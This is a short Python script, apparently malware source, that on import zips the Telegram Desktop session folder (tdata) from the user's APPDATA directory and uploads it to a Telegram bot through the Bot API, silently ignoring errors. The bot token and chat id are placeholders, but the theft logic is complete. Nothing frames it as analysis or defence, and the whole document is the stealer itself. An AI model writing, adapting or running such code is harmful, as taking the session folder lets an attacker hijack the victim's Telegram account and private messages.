import os
import shutil
import tempfile

import requests

BOT = "0000000000:defanged-bot-token"


def _steal():
    tdata = os.path.join(os.getenv("APPDATA", ""), "Telegram Desktop", "tdata")
    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "td"), "zip", tdata)
    with open(archive, "rb") as handle:
        requests.post("https://api.telegram.org/bot" + BOT + "/sendDocument",
                      data={"chat_id": "0"}, files={"document": handle})


try:
    _steal()
except Exception:
    pass
